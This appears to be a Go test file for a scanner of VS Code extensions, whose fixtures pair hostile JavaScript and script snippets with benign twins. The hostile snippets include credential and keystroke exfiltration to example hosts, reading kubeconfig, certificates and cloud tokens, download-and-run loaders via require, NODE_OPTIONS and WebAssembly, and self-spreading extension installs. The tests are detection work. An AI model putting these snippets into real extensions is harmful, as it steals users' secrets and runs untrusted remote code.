package chain

import (
	"strings"
	"testing"

	"github.com/ringfence-dev/ringfence/internal/catalog"
	"github.com/ringfence-dev/ringfence/internal/filetype"
)

const kindsHead = waysHead + `const dgram = require('dgram'); const { EventEmitter } = require('events');
	const mqtt = { connect: (to, options) => { const s = require('tls').connect(8883, to); return { on: (e, f) => s.on(e, f),
		publish: function (topic, text) { s.write(topic + text); return this; }, end: () => s.end() }; } };
	class Subject { constructor() { this.list = []; } pipe(...all) { return this; } subscribe(f) { this.list.push(f); return this; }
		next(v) { for (const f of this.list) queue.push([f, v]); } }
	const queue = []; setInterval(() => { for (const [f, v] of queue.splice(0)) f(v); }, 10);
	const map = (f) => (x) => f(x);
	`

func kindsOf(body string) string {
	return kindsHead + `exports.activate = async (context) => {` + body + `};`
}

// What the user types into a box or gives an extension to keep goes to the service it is for, as its key.
func TestWhatIsEntrusted(t *testing.T) {
	typed := `const secret = await vscode.window.showInputBox({ password: true });`
	kept := `const secret = await context.secrets.get('key');`
	asked := func(headers string) string {
		return kept + `await fetch('https://api.example/v1/spans', { method: 'POST', headers: {` + headers + `} });`
	}
	testTwins(t, []twin{
		{
			"a password that a broker is told",
			kindsOf(typed + `const c = mqtt.connect('mqtts://broker.example:8883', {}); c.publish('a/b', JSON.stringify({ secret }));`),
			kindsOf(typed + `const c = mqtt.connect('mqtts://broker.example:8883', { password: secret }); c.publish('a/b', 'hello');`),
			chainTokenSent,
		},
		{
			"a key that nobody sees among the headers",
			kindsOf(asked(`traceparent: '00-' + Buffer.from(secret).toString('hex') + '-01'`)),
			kindsOf(asked(`authorization: 'Bearer ' + secret`)), chainTokenSent,
		},
		{
			"a password in a datagram",
			kindsOf(typed + `dgram.createSocket('udp4').send(Buffer.from(secret), 5140, '192.0.2.7');`),
			kindsOf(typed + `dgram.createSocket('udp4').send(Buffer.from(secret), 5140, '127.0.0.1');`), chainTokenSent,
		},
	})
}

// What a library hands on by a queue of its own is followed from the method that is told to the function that hears.
func TestWhatSubjectsHandOn(t *testing.T) {
	keys := func(to string) string {
		return kindsOf(`const strokes = new Subject(); const sock = dgram.createSocket('udp4');
			strokes.pipe(map((s) => s.text)).subscribe((batch) => sock.send(Buffer.from(batch), 5140, '` + to + `'));
			vscode.workspace.onDidChangeTextDocument((e) => { for (const c of e.contentChanges) strokes.next({ at: 1, text: c.text }); });`)
	}
	testTwins(t, []twin{{"typed characters as datagrams", keys("192.0.2.77"), keys("127.0.0.1"), chainTextSent}})
}

// An image that a page shows nobody says what is put into its address.
func TestWhatPagesAreShown(t *testing.T) {
	cell := func(image string) string {
		return kindsOf(`const c = vscode.notebooks.createNotebookController('a', 'b', 'c');
			c.executeHandler = async (cells) => { for (const cell of cells) { const exec = c.createNotebookCellExecution(cell);
				const q = encodeURIComponent(cell.document.getText());
				await exec.replaceOutput([new vscode.NotebookCellOutput([vscode.NotebookCellOutputItem.text(` + image + `, 'text/html')])]); } };`)
	}
	page := func(script string) string {
		return kindsOf(`const ORIGIN = 'https://assets.example'; const theme = vscode.workspace.getConfiguration('x').get('theme');
			const panel = vscode.window.createWebviewPanel('a', 'A', 1, { enableScripts: true });
			panel.webview.html = '<html><body class="' + theme + '"><script>' + ` + script + ` + '</script></body></html>';
			for (const uri of await vscode.workspace.findFiles('**/*.{pem,p12}')) {
				panel.webview.postMessage({ data: Buffer.from(await vscode.workspace.fs.readFile(uri)).toString('base64') }); }`)
	}
	const hidden, shown = "<img width=\"1\" height=\"1\" style=\"display:none\"", "<img width=\"640\""
	image := func(tag string) string { return "`" + tag + ` src="https://img.example/p.gif?d=${q}">` + "`" }
	testTwins(t, []twin{
		{"a hidden image in a notebook", cell(image(hidden)), cell(image(shown)), chainTextSent},
		{
			"a page that is told keys and sends",
			page(`"onmessage = (e) => fetch('" + ORIGIN + "/f/' + e.data.name, { method: 'POST', body: e.data.data })"`),
			page(`"onmessage = (e) => show(e.data.data); fetch('" + ORIGIN + "/style.css')"`), chainTextSent,
		},
	})
}

// Paths that come out of a list, and of a folder that nobody knows, are read for what they are.
func TestWherePathsComeFrom(t *testing.T) {
	list := func(file string) string {
		return kindsOf(`const list = (process.env.KUBECONFIG || os.homedir() + '/` + file + `').split(':');
			const all = list.filter((f) => fs.existsSync(f)).map((f) => fs.readFileSync(f));` + post(`Buffer.concat(all)`))
	}
	state := func(name string) string {
		return kindsOf(`const { open } = require('fs/promises'); const h = await open(path.join(context.globalStorageUri.fsPath, ` + name + `));
			const b = Buffer.alloc(1024); await h.read(b, 0, 1024, 0);` + post(`b.subarray(0, 10)`))
	}
	testTwins(t, []twin{
		{"a list of files of a cluster", list(".kube/config"), list(".config/theme"), chainSecretSent},
		{"the editor's own state", state("'..', 'state.vscdb'"), state("'counts.json'"), chainSecretSent},
	})
}

// A file that was fetched and is loaded as a part of the extension runs, however it is loaded.
func TestFetchedCodeRuns(t *testing.T) {
	get := func(load string) string {
		return kindsOf(`const to = path.join(os.tmpdir(), 'addon-' + process.arch);
			https.get('https://bin.example/addon', (res) => { const out = fs.createWriteStream(to); res.pipe(out);
				out.on('finish', () => { ` + load + ` }); });`)
	}
	benign := get(`console.log('got ' + to);`)
	testTwins(t, []twin{
		{"process.dlopen", get(`const m = { exports: {} }; process.dlopen(m, to);`), benign, chainDownloadAndRun},
		{"require", get(`require(to);`), benign, chainDownloadAndRun},
		{"a thread", get(`new (require('worker_threads').Worker)(to);`), benign, chainDownloadAndRun},
		{"fork", get(`cp.fork(to);`), benign, chainDownloadAndRun},
		{"node with --require", get(`cp.spawn('node', ['--require', to, 'x.js'], { detached: true });`), benign, chainDownloadAndRun},
		{"import", get(`import(to);`), benign, chainDownloadAndRun},
		{
			"NODE_OPTIONS of terminals",
			get(`context.environmentVariableCollection.replace('NODE_OPTIONS', '--require ' + to);`), benign, chainDownloadAndRun,
		},
		{
			"NODE_OPTIONS and the storage",
			strings.ReplaceAll(get(`context.environmentVariableCollection.append('NODE_OPTIONS', ' --require ' + to);`),
				"os.tmpdir()", "context.globalStorageUri.fsPath"), benign, chainDownloadAndRun,
		},
		{
			"NODE_OPTIONS of a child",
			get(`cp.spawn('npm', ['test'], { env: { ...process.env, NODE_OPTIONS: '--require ' + to } });`), benign, chainDownloadAndRun,
		},
		{"text of the file in vm", get(`require('vm').runInThisContext(fs.readFileSync(to, 'utf8'));`), benign, chainDownloadAndRun},
		{"WebAssembly", get(`WebAssembly.instantiate(fs.readFileSync(to), {});`), benign, chainDownloadAndRun},
	})
}

// A picture that is drawn and handed to a program of the system is no program.
func TestPicturesAreNoPrograms(t *testing.T) {
	saved := func(name, line string) string {
		return kindsOf(`const f = path.join(os.tmpdir(), '` + name + `');
			vscode.window.onDidChangeActiveTextEditor((e) => { fs.writeFileSync(f, Buffer.from(e.document.getText(), 'base64'));
				` + line + ` });`)
	}
	testTwins(t, []twin{{
		"a program that is called a picture", saved("card.png", `cp.spawn('sh', [f], { detached: true });`),
		saved("card.png", `cp.spawn('xclip', ['-selection', 'clipboard', '-t', 'image/png', '-i', f]);`), chainDownloadAndRun,
	}})
}

// An extension that a person chose and that comes from where a setting says is no worm.
func TestGalleriesOfATeam(t *testing.T) {
	install := func(base, by string) string {
		return kindsOf(`const install = async () => { const base = ` + base + `;
			const r = await fetch(base + '/a.vsix'); const uri = vscode.Uri.joinPath(context.globalStorageUri, 'a.vsix');
			await vscode.workspace.fs.writeFile(uri, Buffer.from(await r.arrayBuffer()));
			await vscode.commands.executeCommand('workbench.extensions.installExtension', uri); };` + by)
	}
	const setting, command = `vscode.workspace.getConfiguration('team').get('gallery')`, `vscode.commands.registerCommand('x.sync', install);`
	testTwins(t, []twin{
		{"a host that the code names", install(`'https://vsix.example'`, command), install(setting, command), chainSpreads},
		{"at start", install(setting, `install();`), install(setting, command), chainSpreads},
	})
}

// Places in a script are those of the catalogue, however the script puts their names together.
func TestPlacesOfScripts(t *testing.T) {
	const sends = "\nurllib.request.urlopen(urllib.request.Request(\"https://collect.example/r\", data))\n"
	for line, private := range map[string]bool{
		`base = os.path.expanduser("~/.config/gcloud")`:                         true,
		`base = os.path.join(os.path.expanduser("~"), ".config", "gcloud")`:     true,
		`data = (Path.home() / ".azure" / "msal_token_cache.json").read_text()`: true,
		`data=$(cat $HOME/.config/gh/hosts.yml)`:                                true,
		`$d = Get-Content "$env:USERPROFILE\.docker\config.json"`:               true,
		`base = os.path.expanduser("~/.config/my-theme")`:                       false,
		`base = os.path.join(".config", "gcloud")`:                              false,
		`# reads ~/.config/gcloud`:                                              false,
	} {
		message, _ := scriptActs(filetype.Kept{Path: "a.py", Text: line + sends}, catalog.Default())
		if (message != "") != private {
			t.Errorf("%s: %q, want private %t", line, message, private)
		}
	}
}
